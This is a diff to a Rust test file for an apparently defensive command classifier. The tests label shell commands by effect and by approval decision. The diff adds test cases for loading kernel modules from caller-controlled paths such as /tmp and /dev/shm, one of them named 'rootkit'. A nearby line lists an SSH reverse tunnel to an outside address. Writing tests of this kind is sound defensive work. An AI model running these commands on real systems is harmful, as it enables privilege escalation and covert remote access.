@@ -141,7 +141,11 @@ fn enabling_an_installed_unit_is_administration_but_a_unit_from_a_path_is_persis
     attack("systemctl enable nginx", Effect::SystemChange);
     assert_eq!(verdict("systemctl enable nginx"), Decision::RequireApproval);
     assert_eq!(verdict("modprobe -r nouveau"), Decision::RequireApproval);
-    attack("modprobe br_netfilter", Effect::PrivilegeEscalation);
+    // A module by name comes from the system's own tree; one from a
+    // directory, file or configuration of the caller's is the caller's code.
+    assert_eq!(verdict("modprobe br_netfilter"), Decision::RequireApproval);
+    attack("modprobe -d /tmp/m rootkit", Effect::PrivilegeEscalation);
+    attack("modprobe /dev/shm/x.ko", Effect::PrivilegeEscalation);
     attack("ssh -R 4444:localhost:22 ops@203.0.113.9", Effect::Listener);
 }
 
